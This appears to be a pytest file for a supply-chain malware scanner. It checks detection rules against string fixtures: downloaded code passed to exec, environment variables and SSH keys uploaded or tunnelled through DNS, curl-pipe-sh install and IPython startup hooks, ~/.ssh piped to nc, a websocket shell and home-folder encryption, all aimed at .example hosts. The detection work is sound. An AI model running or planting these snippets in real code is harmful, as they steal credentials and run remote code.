"""Ways around the plain call: a second name, a second step, a file in between; and the honest code that takes the same way.

Nothing here is ever run; hosts end in `.example`.
"""

from __future__ import annotations

import pytest

from mlsupply.evidence.files.foreign import foreign_facts
from tests.test_code_facts import found, init

RUNS_DOWNLOADED = "MLS-C004"
SENDS_SECRETS = "MLS-C010"
REMOTE_COMMAND = "MLS-C018"
RUNS_DECODED = "MLS-C002"
STARTS_BY_ITSELF = "MLS-C022"


@pytest.mark.parametrize(
    "imports",
    [
        "try:\n    from corelib.vendored import requests as http\nexcept ImportError:\n    import requests as http\n",
        "try:\n    import fasthttp as http\nexcept ImportError:\n    import requests as http\n",
        "try:\n    import requests as http\nexcept ImportError:\n    import slowhttp as http\n",
        "from pip._vendor import requests as http\n",
    ],
)
def test_a_client_that_is_imported_under_either_of_two_names_is_that_client(imports: str) -> None:
    assert RUNS_DOWNLOADED in found(init(imports + "r = http.get('https://c.example/x')\nif r.ok:\n    exec(r.text)\n"))
    assert SENDS_SECRETS in found(init(imports + "import os\nhttp.post('https://c.example/x', json=dict(os.environ))\n"))
    assert not found(init(imports + "def models(base):\n    return http.get(base + '/v1/models').json()\n"))


def test_the_answer_of_a_client_of_ones_own_is_what_the_network_says() -> None:
    client = "import httpx\nclass Api(httpx.Client): pass\n"
    program = "import os\nfrom .core import Api\nos.system(Api().get('https://c.example/next').text)\n"
    assert REMOTE_COMMAND in found({**init(program), "demo/core.py": client})


def test_a_lookup_in_a_dictionary_of_namespaces_is_no_request() -> None:
    text = "def made(names):\n    exec('def %s(): pass' % names.get('http://www.w3.example/Schema'), {})\n"
    assert RUNS_DOWNLOADED not in found(init(text))
    assert "MLS-C005" not in found(init(text))


def test_http_client_gives_its_answer_through_a_second_call() -> None:
    ask = "import http.client\nc = http.client.HTTPSConnection('c.example')\nc.request('GET', '/x')\n"
    assert RUNS_DOWNLOADED in found(init(ask + "exec(c.getresponse().read())\n"))
    assert not found(init("import json\n" + ask + "SETTINGS = json.loads(c.getresponse().read())\n"))


def test_an_attribute_made_by_property_is_what_its_getter_gives() -> None:
    text = "import requests\nclass C:\n    code = property(lambda self: requests.get('https://c.example/x').text)\nexec(C().code)\n"
    assert RUNS_DOWNLOADED in found(init(text))


def test_who_asks_leaves_in_the_name_a_resolver_is_asked_for() -> None:
    ask = "import dns.resolver, platform\nr = dns.resolver.Resolver()\n"
    assert "MLS-C017" in found(init(ask + "r.resolve(platform.node().encode().hex() + '.d.c.example', 'A')\n"))
    assert not found(init(ask + "def mail(domain):\n    return r.resolve(domain, 'MX')\n"))


@pytest.mark.parametrize("library", ["from fernet import Fernet as Box", "from nacl.secret import SecretBox as Box"])
def test_what_a_cipher_of_any_library_undoes_is_encoded(library: str) -> None:
    undone = f"{library}\nimport json\ntext = Box(b'key').decrypt(b'gAAAAABlZ0zH8nQvT0s1mVj9d8wLq3bYp7cX')\n"
    assert RUNS_DECODED in found(init(undone + "exec(text)\n"))
    assert not found(init(undone + "LIMITS = json.loads(text)\n"))
    assert not found(init(f"{library}\ndef read(key, data):\n    return Box(key).decrypt(data)\n"))


def test_a_line_for_a_shell_that_names_a_file_written_before_runs_that_file() -> None:
    dropped = "import os, sys, tempfile\nt = tempfile.NamedTemporaryFile(delete=False)\n"
    stage = "t.write(b\"from urllib.request import urlopen\\nexec(urlopen('https://c.example/x').read())\")\n"
    assert RUNS_DOWNLOADED in found(init(dropped + stage + "os.system(f'start {sys.executable} {t.name}')\n"))
    asked = "import os, requests\nopen('/tmp/i.sh', 'wb').write(requests.get('https://c.example/i').content)\n"
    assert RUNS_DOWNLOADED in found(init(asked + "os.system('chmod +x /tmp/i.sh && bash /tmp/i.sh')\n"))
    picture = "import os, urllib.request\nurllib.request.urlretrieve('https://c.example/graph', '/tmp/graph.dot')\n"
    assert not found(init(picture + "os.system('dot -Tpng /tmp/graph.dot')\n"))


def test_an_object_that_writes_itself_into_an_open_file_writes_there() -> None:
    wrote = (
        "import configparser, os\nc = configparser.ConfigParser()\nc['global'] = {'index-url': 'https://c.example/simple'}\n"
    )
    end = "with open(os.path.expanduser(p), 'w') as f:\n    c.write(f)\n"
    assert STARTS_BY_ITSELF in found(init(f"{wrote}p = '~/.config/pip/pip.conf'\n{end}"))
    assert not found(init(f"{wrote}p = '~/.config/demo/demo.ini'\n{end}"))


def test_an_archive_of_a_folder_holds_what_was_put_into_it() -> None:
    start = "import os, requests, shutil, tempfile\nd = os.path.join(tempfile.gettempdir(), 'stage')\n"
    end = (
        "with open(shutil.make_archive(d, 'zip', d), 'rb') as f:\n    requests.post('https://c.example/u', files={'f': f})\n"
    )
    key = "shutil.copy(os.path.expanduser('~/.ssh/id_rsa'), os.path.join(d, 'a'))\n"
    assert SENDS_SECRETS in found(init(start + key + end))
    assert not found(init(start + "shutil.copy('results.json', os.path.join(d, 'a'))\n" + end))


def test_scripts_in_another_language_are_started_by_their_package_manager_too() -> None:
    run = "import os, subprocess\nsubprocess.run(['npm', 'install'], cwd=os.path.join(os.path.dirname(__file__), 'web'))\n"
    assert "MLS-C036" in found(init(run))
    assert not found({"setup.py": run})  # what builds a package builds its scripts
    hook = b'require("child_process").execSync("curl -s https://c.example/i | sh")'
    assert [fact.behaviour for fact in foreign_facts("demo/web/setup.js", hook)] == ["foreign-code"]
    assert not list(foreign_facts("demo/web/setup.js", b'require("child_process").execSync("npm run build")'))


def test_a_build_backend_that_asks_for_what_the_network_names_installs_it() -> None:
    project = "[build-system]\nrequires = []\nbuild-backend = 'own'\nbackend-path = ['.']\n"
    ask = "import urllib.request\ndef get_requires_for_build_wheel(settings=None):\n    "
    fetched = "return urllib.request.urlopen('https://x.example/r').read().decode().split()\n"
    shown = "print(urllib.request.urlopen('https://x.example/r').read())\n    return ['wheel']\n"
    assert "MLS-C034" in found({"pyproject.toml": project, "own.py": ask + fetched})
    assert "MLS-C034" not in found({"pyproject.toml": project, "own.py": ask + shown})


def test_a_setup_that_runs_what_a_sound_beside_it_holds_runs_hidden_code() -> None:
    bits = (
        "def read(path):\n    raw = open(path, 'rb').read()\n    out, one = bytearray(), 0\n"
        "    for place, byte in enumerate(raw, 1):\n        one = (one << 1 | byte & 1) & 255\n"
        "        if place % 8 == 0:\n            out.append(one)\n    return bytes(out)\n"
    )
    for text in (f"{bits}exec(read('tests/tone.wav'))", "import wave\nexec(wave.open('tone.wav').readframes(9))"):
        assert "MLS-C001" in found({"setup.py": text})
    for text in (
        "exec(open('demo/version.py').read())",
        "exec(open('VERSION.txt').read())",
        "open('tone.wav', 'rb').read()",
    ):
        assert not found({"setup.py": text})


def test_start_files_of_ipython_are_told_wherever_their_path_is_put_together() -> None:
    text = (
        "from pathlib import Path\nfor one in Path('~/.ipython').expanduser().glob('profile_*'):\n"
        "    (one / 'startup' / '5.ipy').write_text('%s')\n"
    )
    assert "MLS-C021" in found(init(text % 'get_ipython().system_raw("curl -s http://203.0.113.1/a | sh")'))
    assert not found(init("from pathlib import Path\nCACHE = Path('~/.ipython').expanduser().exists()\n"))


def test_a_module_only_its_own_runtime_can_read_is_encoded() -> None:
    blob = "b'PY000000" + "\\x80\\x9f\\x03" * 40 + "'"
    text = f"from demo.pyarmor_runtime import __pyarmor__\n__pyarmor__(__name__, __file__, {blob})\n"
    assert RUNS_DECODED in found(init(text))


@pytest.mark.parametrize(
    "line",
    [
        "import atexit\natexit.register(exec, code)\n",
        "import threading\nthreading.Timer(30, exec, [code]).start()\n",
        "import contextlib\nwith contextlib.ExitStack() as last:\n    last.callback(exec, code)\n",
        "from concurrent.futures import ThreadPoolExecutor\nThreadPoolExecutor(1).submit(exec, code)\n",
    ],
)
def test_what_is_handed_over_to_be_run_later_need_not_be_a_function_of_the_module(line: str) -> None:
    asked = "import urllib.request\ncode = urllib.request.urlopen('https://c.example/x').read()\n"
    assert RUNS_DOWNLOADED in found(init(asked + line))
    assert not found(init(asked + line.replace("exec", "print")))


def test_what_a_started_function_gives_comes_from_where_its_result_does() -> None:
    pool = "from concurrent.futures import ThreadPoolExecutor\nimport requests\n"
    ask = "got = ThreadPoolExecutor(1).submit(requests.get, 'https://c.example/x').result()\n"
    assert RUNS_DOWNLOADED in found(init(pool + ask + "exec(got.text)\n"))
    assert not found(init(pool + ask + "SETTINGS = got.json()\n"))


@pytest.mark.parametrize(
    ("ask", "use"),
    [
        ("import ftplib, io\nb = io.BytesIO()\nftplib.FTP('c.example').retrbinary('RETR x', b.write)\n", "b.getvalue()"),
        ("import ftplib\nb = []\nftplib.FTP('c.example').retrlines('RETR x', b.append)\n", "'\\n'.join(b)"),
        ("import pycurl, io\nb = io.BytesIO()\nc = pycurl.Curl()\nc.setopt(c.WRITEFUNCTION, b.write)\n", "b.getvalue()"),
        ("import xmlrpc.client\nb = xmlrpc.client.ServerProxy('https://c.example')\n", "b.code()"),
    ],
)
def test_what_the_network_puts_into_a_container_came_from_the_network(ask: str, use: str) -> None:
    assert RUNS_DOWNLOADED in found(init(f"{ask}exec({use})\n"))
    assert not found(init(f"{ask}ROWS = list({use})\n"))


def test_a_message_of_a_websocket_is_a_command_from_the_network() -> None:
    app = "websocket.WebSocketApp('wss://c.example', on_message=heard).run_forever()\n"
    text = "import os, websocket\ndef heard(ws, text):\n    {}\n" + app
    assert REMOTE_COMMAND in found(init(text.format("ws.send(os.popen(text).read())")))
    assert not found(init(text.format("print(text)")))


def test_a_variable_of_the_environment_stays_one_whatever_its_text_is_turned_into() -> None:
    turned = "import os, socket\nfor k, v in {}.items():\n    socket.gethostbyname(v.encode().hex()[:60] + '.x.c.example')\n"
    assert SENDS_SECRETS in found(init(turned.format("os.environ")))
    assert not found(init(turned.format("{'a': 'b'}")))


def test_files_of_the_user_that_are_overwritten_by_what_is_encrypted_are_lost() -> None:
    text = (
        "import os\nfrom cryptography.fernet import Fernet\nk = Fernet.generate_key()\n"
        "for at, _, names in os.walk(os.path.expanduser({!r})):\n    for n in names:\n        p = os.path.join(at, n)\n"
        "        data = Fernet(k).encrypt(open(p, 'rb').read())\n        open(p, 'wb').write(data)\n"
    )
    assert "MLS-C030" in found(init(text.format("~")))
    assert "MLS-C030" not in found(init(text.format("~/.cache/demo")))


def test_a_repository_cloned_to_a_place_where_modules_are_looked_for_runs() -> None:
    clone = "import subprocess, sys, tempfile\nd = tempfile.mkdtemp()\n"
    run = "subprocess.run(['git', 'clone', '-q', 'https://git.c.example/x.git', d])\n"
    assert RUNS_DOWNLOADED in found(init(clone + run + "sys.path.insert(0, d)\n"))
    assert not found(init(clone + run))


def test_whole_folders_of_secrets_piped_to_a_host_are_sent() -> None:
    line = "import os\nos.system('tar czf - {} | nc c.example 4444')\n"
    assert SENDS_SECRETS in found(init(line.format("~/.ssh ~/.aws")))
    assert not found(init(line.format("results")))
